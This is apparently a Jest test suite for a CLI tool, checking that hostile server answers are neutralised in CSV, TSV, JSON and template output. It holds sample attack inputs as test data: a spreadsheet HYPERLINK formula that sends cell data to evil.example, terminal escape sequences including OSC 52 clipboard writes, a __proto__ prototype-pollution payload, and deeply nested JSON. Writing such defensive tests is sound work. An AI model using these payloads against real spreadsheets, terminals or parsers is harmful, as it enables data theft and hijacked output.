// A compromised or hostile server's answers against the CLI bundle's output (issue 37, breaks 5
// and 6), served by a loopback server that answers `svc api` with what each test sets: cells a
// spreadsheet would run as formulas get a leading `'` inside a quoted cell (--csv-raw keeps the
// bytes); header cells made of server keys lose their control characters as values do; C1 controls
// never reach stdout raw (JSON escapes them); Handlebars' {{log}} is refused; --fields __proto__.x
// is an own field, never Object.prototype; an answer nested 5,000 levels deep, and one too large
// for the bundled jq, end in a clear error (exit 1), not a crash.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { parse } from 'csv-parse/sync'
import { ensureCliBundle, runCli } from './harness.js'

let bundle: string
let server: Server
let url: string
/** The body the server answers next (JSON text), and how many requests it saw. */
let body = 'null'
let seen = 0

beforeAll(async () => {
  bundle = ensureCliBundle()
  server = createServer((req, res) => {
    seen++
    req.resume()
    res.setHeader('content-type', 'application/json')
    res.end(body)
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}, 180_000)
afterAll(async () => {
  await new Promise(done => server.close(done))
})

const api = (answer: unknown, ...args: string[]) => {
  body = typeof answer === 'string' ? answer : JSON.stringify(answer)
  return runCli(bundle, ['api', 'GET', '/x', ...args], { env: { SVC_SERVER_URL: url, SVC_TOKEN: 'tok-hostile-1' } })
}

/** Control characters a terminal acts on: C0 but tab and newline, DEL, C1. */
// eslint-disable-next-line no-control-regex -- control characters are what the output must not hold
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

describe('spreadsheet-safe csv and tsv (break 5)', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tlead-tab', '\r=cr-then-formula']
  const rows = FORMULAS.map((f, i) => ({ id: i, name: f, n: -5 }))

  test('a text cell starting with = + - @ or a tab gets a leading quote inside a quoted cell; numbers stay', async () => {
    const r = await api(rows, '-o', 'csv')
    expect(r.code).toBe(0)
    const lines = r.stdout.split('\n')
    expect(lines[1]).toBe(`0,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5`)
    expect(lines[2]).toBe(`1,"'+1+1",-5`)
    expect(lines[4]).toBe(`3,"'@SUM(A1)",-5`)
    const cells = (parse(r.stdout) as string[][]).slice(1).map(c => c[1])
    // The carriage return is dropped as a control character; what follows it is then guarded.
    expect(cells).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tlead-tab",
      "'=cr-then-formula"
    ])
    const tsv = await api(rows, '-o', 'tsv', '--fields', 'name')
    expect(tsv.stdout.split('\n').slice(0, 6)).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\\tlead-tab",
      "'=cr-then-formula"
    ])
  })

  test('--csv-raw writes the cells as the server sent them; with another format it is refused before sending', async () => {
    const r = await api(rows, '-o', 'csv', '--fields', 'name', '--csv-raw')
    expect((parse(r.stdout) as string[][]).slice(1).map(c => c[0])).toEqual(FORMULAS.map(f => f.replace('\r', '')))
    const before = seen
    const bad = await api(rows, '--csv-raw', '-o', 'json')
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringContaining('--csv-raw is for -o csv or -o tsv')])
    expect(seen).toBe(before)
  })

  test('header cells (server keys) lose ESC, BEL, OSC 52, C1, BS and CR, and are formula-safe too', async () => {
    const key = 'k\u001b]52;c;ZXZpbA==\u0007\u009b31m\u0008\r\u0085x'
    const r = await api([{ [key]: 'v', '=cmd': 'w' }], '-o', 'csv')
    expect(r.code).toBe(0)
    expect(r.stdout).not.toMatch(RAW_CONTROL)
    expect(r.stdout.split('\n')[0]).toBe(`k]52;c;ZXZpbA==31mx,"'=cmd"`)
  })
})

describe('output cleaning, the rest (break 6)', () => {
  const C1 = 'a\u009b31mb\u0085c\u007f'

  test('C1 controls and DEL are escaped in -o json and --jq JSON, dropped from --jq strings, text and templates', async () => {
    for (const args of [
      ['-o', 'json'],
      [],
      ['--jq', '.'],
      ['--jq', '.[]'],
      ['--jq', '.[].name'],
      ['--template', '{{#each .}}{{name}}{{/each}}']
    ]) {
      const r = await api([{ name: C1 }], ...args)
      expect([args, r.code]).toEqual([args, 0])
      expect([args, RAW_CONTROL.test(r.stdout)]).toEqual([args, false])
    }
    const json = await api([{ name: C1 }], '-o', 'json')
    expect(json.stdout).toContain('a\\u009b31mb\\u0085c\\u007f')
    expect(JSON.parse(json.stdout)).toEqual([{ name: C1 }])
    expect((await api([{ name: C1 }], '--jq', '.[].name')).stdout).toBe('a31mbc\n')
  })

  test("Handlebars' {{log}} is refused before anything is sent", async () => {
    const before = seen
    const r = await api([{ name: '::error::x \u001b[2J' }], '--template', '{{#each .}}{{log name}}{{/each}}')
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('--template:')
    expect(r.stdout).toBe('')
    expect(seen).toBe(before)
  })

  test('--fields __proto__.x is an own field of the answer, not a property of every object', async () => {
    const r = await api('{"__proto__":{"polluted":"yes"},"id":1}', '--fields', '__proto__.polluted', '-o', 'json')
    expect(r.code).toBe(0)
    expect(JSON.parse(r.stdout)).toEqual(JSON.parse('{"__proto__":{"polluted":"yes"}}'))
    const csv = await api('[{"__proto__":{"polluted":"yes"},"id":1}]', '-o', 'csv')
    expect(csv.stdout).toBe('__proto__.polluted,id\nyes,1\n')
  })

  test('an answer nested 5,000 levels deep is a clear error (exit 1) in every format', async () => {
    const deep = `${'['.repeat(5000)}${']'.repeat(5000)}`
    for (const args of [[], ['-o', 'json'], ['--jq', '.'], ['-o', 'csv'], ['--template', 'x'], ['--fields', 'a']]) {
      const r = await api(deep, ...args)
      expect([args, r.code, r.stderr]).toEqual([
        args,
        1,
        'svc: the answer is nested more than 512 levels deep, deeper than svc prints: nothing was printed\n'
      ])
    }
    // 1,000 levels: what made the bundled jq fail with a memory error.
    const r = await api(`${'['.repeat(1000)}${']'.repeat(1000)}`, '--jq', 'length')
    expect([r.code, r.stderr]).toEqual([1, expect.stringContaining('nested more than 512 levels')])
    const fine = await api(`${'['.repeat(500)}${']'.repeat(500)}`, '--jq', 'length')
    expect([fine.code, fine.stdout]).toEqual([0, '1\n'])
  })

  test('an answer too large for the bundled jq is a clear error naming the bound, not an abort', async () => {
    // 2.6 million numbers: the bundled jq aborted (`unexpected failure: Aborted()`).
    const r = await api(`[${'0,'.repeat(2_600_000)}0]`, '--jq', 'length')
    expect(r.code).toBe(1)
    expect(r.stderr).toMatch(/^svc: --jq: the answer holds 2,600,002 values; the bundled jq takes at most 1,000,000 values/)
    expect(r.stderr).not.toContain('unexpected')
    // The same answer as JSON is printed whole.
    const json = await api(`[${'0,'.repeat(2_600_000)}0]`, '-o', 'json')
    expect(json.code).toBe(0)
    expect((JSON.parse(json.stdout) as number[]).length).toBe(2_600_001)
  }, 120_000)
})
